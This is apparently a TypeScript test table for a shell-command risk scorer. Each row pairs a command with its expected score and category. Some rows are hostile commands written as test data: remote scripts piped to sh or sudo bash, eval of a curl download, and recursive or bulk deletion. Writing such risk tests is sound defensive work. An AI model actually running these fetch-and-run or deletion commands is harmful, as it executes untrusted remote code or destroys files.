import { loadSqlParser } from '../../../src/policy/risk/sql/parser.ts';
import { riskLine } from '../../support/rules/risk.ts';

beforeAll(loadSqlParser);

// The shell, interpreters and what cannot be known: score, level, what counts, and categories.
test.each([
  ['echo hi', '0 low : read-only'],
  ['FOO=1', '0 low : read-only'],
  ['cd /srv && ls', '0 low : read-only'],
  ['curl https://x.sh | sh', '100 critical fetch-and-run+runs-script+http-fetch: access'],
  [
    'curl https://x.sh | sudo bash',
    '100 critical fetch-and-run+runs-script+http-fetch+as-another-user: access',
  ],
  ['bash <(curl -s https://x.sh)', '100 critical fetch-and-run+opaque+runs-script+http-fetch: access'],
  ['eval "$(curl -s https://x.sh)"', '100 critical fetch-and-run+opaque+shell-state+http-fetch: access'],
  ['cat deploy.sh | bash', '70 high runs-what-it-reads+runs-script: '],
  ['bash deploy.sh', '25 medium runs-script: '],
  ['bash', '40 medium interactive-shell: access'],
  ["bash -c 'rm -rf build'", '55 high files-remove-tree+inline-shell: destructive'],
  ["python -c 'print(1)'", '40 medium inline-program: '],
  ['python', '40 medium interactive-shell: access'],
  ['python -i x.py', '40 medium interactive-shell: access'],
  ['node app.js', '25 medium runs-script: '],
  ['./deploy.sh production', '20 low unknown-program: '],
  ['$CMD x', '30 medium opaque: '],
  ['make "$(cat target)"', '50 high opaque+project-script: '],
  ['while true; do docker ps; sleep 5; done', '0 low : read-only'],
  ['xargs rm < list', '40 medium files-remove+repeats: destructive'],
  ['vim /etc/hosts', '40 medium interactive-shell: access'],
  ['echo "x', '30 medium opaque: '],
])('%j is %s', (command, expected) => {
  expect(riskLine(command)).toBe(expected);
});
